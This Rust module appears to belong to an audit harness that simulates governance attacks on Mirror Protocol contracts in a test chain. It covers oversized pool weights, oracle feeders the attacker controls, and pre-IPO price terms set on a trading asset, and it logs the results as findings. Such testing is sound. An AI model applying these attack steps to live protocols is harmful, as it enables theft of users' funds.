//! What default polls can do to the pools: listings, weights, and terms of an asset.

use cosmwasm_std::{Addr, Decimal};
use mirror_protocol::factory::{self, Params};
use mirror_protocol::gov::PollStatus;
use mirror_protocol::mint::{self, IPOParams};
use mirror_protocol::staking;
use mirror_testing::{
    percent, standard_profile, usual_listing, usual_params, Listed, TestChain, World,
};
use terraswap::asset::{Asset, AssetInfo, PairInfo};
use terraswap::factory::PairFactory;

use crate::attacks::attack::Attack;
use crate::attacks::fixtures::{self, DAY, MILLION, UNIT};
use crate::attacks::polls::{self, Proposal, FIFTH};
use crate::attacks::report::{Attempt, Findings};
use crate::attacks::transaction::{base, Transaction};
use crate::attacks::trial::Trial;

pub(super) const WEIGHT: Attack = Attack {
    name: "weight of four billion",
    story: "Listing an asset is a default poll, and any weight was taken: with 2^32 - 1 an \
            attacker's own pool of a coin had all of the release.",
    run: weight,
};

pub(super) const FEEDERS: Attack = Attack {
    name: "listings with own feeders",
    story: "Five listed mAssets whose feeder is the attacker back others up to 250,000 coins \
            each: 1.25 million for the 5 coins that they were minted against.",
    run: feeders,
};

pub(super) const RUNNING: Attack = Attack {
    name: "a running asset before its IPO",
    story: "A default poll could give an asset that trades terms of a time before an IPO, and so \
            a fixed price of the attacker's.",
    run: running,
};

/// What an asset is worth in these attacks.
const PRICE: &str = "10";
/// The mAssets of the genesis, of weight 100 each.
const GENESIS: [&str; 13] = [
    "mAAPL", "mGOOGL", "mTSLA", "mNFLX", "mQQQ", "mTWTR", "mMSFT", "mAMZN", "mBABA", "mIAU",
    "mSLV", "mUSO", "mVIXY",
];

/// A governed protocol with these assets.
fn with_assets(symbols: &[&str], params: Params) -> anyhow::Result<World> {
    let mut profile = standard_profile(&TestChain::new());
    profile.assets = symbols.iter().map(|symbol| usual_listing(symbol)).collect();
    for listing in &mut profile.assets {
        listing.params = params.clone();
    }
    let mut world = World::governed_as(profile);
    polls::attacker_stakes(&mut world, FIFTH)?;
    Ok(world)
}

/// The attack begins, with the fair prices of these assets and of MIR.
fn trial_with(world: World, symbols: &[&str]) -> anyhow::Result<Trial> {
    let mut prices = vec![("MIR", fixtures::price("0.5")?)];
    for symbol in symbols {
        prices.push((symbol, fixtures::price(PRICE)?));
    }
    Trial::new(world, &prices)
}

/// A poll that lists an asset with this symbol, whose feeder is the attacker.
fn listing(trial: &Trial, symbol: &str, params: Params) -> anyhow::Result<Proposal> {
    let whitelist = factory::ExecuteMsg::Whitelist {
        name: "A new asset".to_string(),
        symbol: symbol.to_string(),
        oracle_feeder: trial.attacker.to_string(),
        params,
    };
    Proposal::call(&trial.world.at.factory, &whitelist)
}

/// The assets and their weights.
fn weights(world: &World) -> Vec<(String, u32)> {
    let question = factory::QueryMsg::DistributionInfo {};
    let answer: factory::DistributionInfoResponse = world.asks(&world.at.factory, &question);
    answer.weights
}

/// The assets that were listed since then.
fn listed_since(world: &World, before: &[(String, u32)]) -> anyhow::Result<Vec<Listed>> {
    let now = weights(world);
    let is_known = |token: &str| before.iter().any(|(known, _)| known == token);
    let new = now.iter().filter(|(token, _)| !is_known(token));
    new.map(|(token, _)| listed(world, &Addr::unchecked(token)))
        .collect()
}

/// The pair and the LP token of an asset.
fn listed(world: &World, token: &Addr) -> anyhow::Result<Listed> {
    let infos = [
        AssetInfo::native(mirror_testing::BASE),
        AssetInfo::token(token),
    ];
    let factory = PairFactory(world.at.swap_factory.clone());
    let pair: PairInfo = factory.pair(&world.chain.app.wrap(), infos)?;
    Ok(Listed {
        token: token.clone(),
        pair: Addr::unchecked(pair.contract_addr),
        lp_token: Addr::unchecked(pair.liquidity_token),
    })
}

fn weight() -> anyhow::Result<Findings> {
    let own = |weight: u32, tried: &str| farms(weight, Others::Stay, tried);
    Ok(Findings {
        attempts: vec![
            own(
                u32::MAX,
                "had an own asset listed with a weight of 2^32 - 1",
            )?,
            own(301, "had one listed with a little more than MIR's weight")?,
            reweighed(
                "had a weight of 2^32 - 1 given to an asset that only the attacker provides",
            )?,
        ],
        exposures: vec![
            own(300, "")?.exposes(
                "a fifth of the stake, while nobody votes: an own asset has the greatest weight \
                 beside thirteen of 100, alone in its pool for the eight days until others have \
                 delisted it",
            ),
            farms(300, Others::GetNothing, "")?.exposes(
                "the same, and thirteen polls besides that give the others a weight of 0: all that \
                 mAssets are paid is its own",
            ),
        ],
    })
}

/// What happens to the pools of others.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Others {
    /// They keep their weight.
    Stay,
    /// Polls set their weight to 0.
    GetNothing,
}

/// The attacker lists an own asset and takes all that its pool earns in eight days.
fn farms(weight: u32, others: Others, tried: &str) -> anyhow::Result<Attempt> {
    let genesis = Params {
        weight: Some(100),
        ..usual_params()
    };
    let mut trial = trial_with(with_assets(&GENESIS, genesis)?, &[])?;
    let before = weights(&trial.world);
    let params = Params {
        weight: Some(weight),
        ..usual_params()
    };
    let mut proposals = vec![listing(&trial, "OWN", params)?];
    if others == Others::GetNothing {
        for symbol in GENESIS {
            let update = factory::ExecuteMsg::UpdateWeight {
                asset_token: trial.world.token(symbol).into_string(),
                weight: 0,
            };
            proposals.push(Proposal::call(&trial.world.at.factory, &update)?);
        }
    }
    polls::passes_together(&mut trial, "T-72", &proposals)?;
    for listed in listed_since(&trial.world, &before)? {
        trial.world.knows("mOWN", listed);
        provides_alone(&mut trial)?;
    }
    trial.ends(tried)
}

/// The attacker mints the asset and is the only provider of its pool.
fn provides_alone(trial: &mut Trial) -> anyhow::Result<()> {
    let listed = trial.world.asset("mOWN");
    let at = trial.world.at.clone();
    let paid = base(UNIT * 3 / 2);
    let feed = Transaction::new().feeds(&at.oracle, &listed.token, Decimal::one());
    trial.does(feed.opens(&at.mint, paid, &listed.token, percent(150)))?;
    let tokens = Asset::token(&listed.token, UNIT);
    trial.does(Transaction::new().provides(&listed.pair, base(UNIT), tokens))?;
    earns_alone(trial, &listed)
}

/// The attacker stakes the LP tokens for eight days and withdraws.
fn earns_alone(trial: &mut Trial, listed: &Listed) -> anyhow::Result<()> {
    let at = trial.world.at.clone();
    let lp = trial.world.token_balance(&listed.lp_token, &trial.attacker);
    let bond = staking::Cw20HookMsg::Bond {
        asset_token: listed.token.to_string(),
    };
    trial.does(Transaction::new().hands(&listed.lp_token, lp.u128(), &at.staking, &bond))?;
    let distribute = factory::ExecuteMsg::Distribute {};
    for _ in 0..8 {
        trial.world.chain.pass(DAY);
        trial.does(Transaction::new().calls(&at.factory, &distribute))?;
    }
    polls::leaves(trial)
}

/// An asset that is listed already gets the weight; the attacker is the only provider of its pool.
fn reweighed(tried: &str) -> anyhow::Result<Attempt> {
    let mut world = with_assets(&GENESIS, usual_params())?;
    let token = world.token("mAAPL");
    world.feeds(&[("mAAPL", PRICE)]);
    let attacker = world.chain.account("attacker");
    let [minted, paid] = [UNIT, 10 * UNIT];
    world
        .actor("attacker")
        .opens(2 * paid, "mAAPL", percent(200));
    world.actor("attacker").provides("mAAPL", paid, minted);
    let mut trial = trial_with(world, &["mAAPL"])?;
    let update = factory::ExecuteMsg::UpdateWeight {
        asset_token: token.to_string(),
        weight: u32::MAX,
    };
    let proposal = Proposal::call(&trial.world.at.factory, &update)?;
    if polls::passes(&mut trial, "T-72", &proposal)? == Some(PollStatus::Executed) {
        let listed = trial.world.asset("mAAPL");
        earns_alone(&mut trial, &listed)?;
    }
    debug_assert_eq!(attacker, trial.attacker);
    trial.ends(tried)
}

/// The symbols of the attacker's own assets.
const OWN: [&str; 5] = ["ONE", "TWO", "THREE", "FOUR", "FIVE"];
/// Longer than an asset has to wait until it may back others.
const DELAY: u64 = 31 * DAY;
/// Just longer than a price outside the band has to wait for its confirmation.
const BAND_WINDOW: u64 = 1_801;

fn feeders() -> anyhow::Result<Findings> {
    Ok(Findings {
        attempts: vec![
            backs(
                0,
                "had five assets listed that only the attacker feeds, and backed another \
                      with them at once",
            )?,
            backs(28 * DAY, "the same four weeks later")?,
        ],
        exposures: vec![backs(DELAY, "")?.exposes(
            "a fifth of the stake, while nobody votes: five own assets are listed, nobody delists \
             or bars them for 31 days, and each backs 250,000 coins' worth of mAAPL",
        )],
    })
}

fn backs(wait: u64, tried: &str) -> anyhow::Result<Attempt> {
    let mut world = with_assets(&["mAAPL"], usual_params())?;
    world.feeds(&[("mAAPL", PRICE)]);
    fixtures::pool(&mut world, "mAAPL", 10 * MILLION);
    let mut trial = trial_with(world, &["mAAPL"])?;
    let before = weights(&trial.world);
    let proposals: anyhow::Result<Vec<Proposal>> = OWN
        .iter()
        .map(|symbol| listing(&trial, symbol, usual_params()))
        .collect();
    polls::passes_together(&mut trial, "T-42", &proposals?)?;
    let own = listed_since(&trial.world, &before)?;
    let mint = trial.world.at.mint.clone();
    for listed in &own {
        posts(&mut trial, listed, "0.000001")?;
        let open = Transaction::new().opens(&mint, base(UNIT), &listed.token, percent(150));
        trial.does(open)?;
    }
    trial.world.chain.pass(wait);
    for _ in 0..2 {
        trial.world.chain.pass(BAND_WINDOW);
        for listed in &own {
            posts(&mut trial, listed, "0.37")?;
        }
    }
    trial.world.feeds(&[("mAAPL", PRICE)]);
    for listed in &own {
        let accept = mint::ExecuteMsg::AcceptCollateral {
            asset_token: listed.token.to_string(),
        };
        let is_accepted = trial.tries("T-42", Transaction::new().calls(&mint, &accept))?;
        let all = trial.world.token_balance(&listed.token, &trial.attacker);
        fixtures::mints_and_sells(
            &mut trial,
            "T-42",
            Asset::token(&listed.token, all),
            "mAAPL",
        )?;
        // If the first is refused, the others would be, too.
        if is_accepted.is_none() {
            break;
        }
    }
    polls::leaves(&mut trial)?;
    trial.ends(tried)
}

fn posts(trial: &mut Trial, listed: &Listed, price: &str) -> anyhow::Result<()> {
    let oracle = trial.world.at.oracle.clone();
    let post = Transaction::new().feeds(&oracle, &listed.token, fixtures::price(price)?);
    trial.does(post)?;
    Ok(())
}

fn running() -> anyhow::Result<Findings> {
    let before_ipo = Params {
        mint_period: Some(60 * DAY),
        min_collateral_ratio_after_ipo: Some(percent(150)),
        pre_ipo_price: Some(fixtures::price(PRICE)?),
        ..usual_params()
    };
    Ok(Findings {
        attempts: vec![
            cheapens(
                usual_params(),
                "had terms of a time before an IPO set for an asset that trades",
            )?,
            cheapens(
                before_ipo,
                "had the price of an asset before its IPO set to a thousandth",
            )?,
        ],
        exposures: vec![],
    })
}

/// A poll sets a price of a thousandth, at which the attacker mints; the tokens are sold at the
/// pool's price.
fn cheapens(params: Params, tried: &str) -> anyhow::Result<Attempt> {
    let is_before_ipo = params.mint_period.is_some();
    let mut world = with_assets(&["mAAPL"], params)?;
    if !is_before_ipo {
        world.feeds(&[("mAAPL", PRICE)]);
    }
    fixtures::pool(&mut world, "mAAPL", MILLION);
    let mut trial = trial_with(world, &["mAAPL"])?;
    let token = trial.world.token("mAAPL");
    let terms = mint::ExecuteMsg::UpdateAsset {
        asset_token: token.to_string(),
        auction_discount: None,
        min_collateral_ratio: None,
        ipo_params: Some(IPOParams {
            mint_end: trial.world.chain.now() + 60 * DAY,
            pre_ipo_price: fixtures::price("0.01")?,
            min_collateral_ratio_after_ipo: percent(150),
            trigger_addr: None,
        }),
        debt_cap: None,
    };
    let mint = trial.world.at.mint.clone();
    let proposal = Proposal::passed(&trial.world, &mint, &terms)?;
    polls::passes(&mut trial, "T-87", &proposal)?;
    if !is_before_ipo {
        trial.world.feeds(&[("mAAPL", PRICE)]);
    }
    fixtures::mints_and_sells(&mut trial, "T-87", base(1_500 * UNIT), "mAAPL")?;
    polls::leaves(&mut trial)?;
    trial.ends(tried)
}
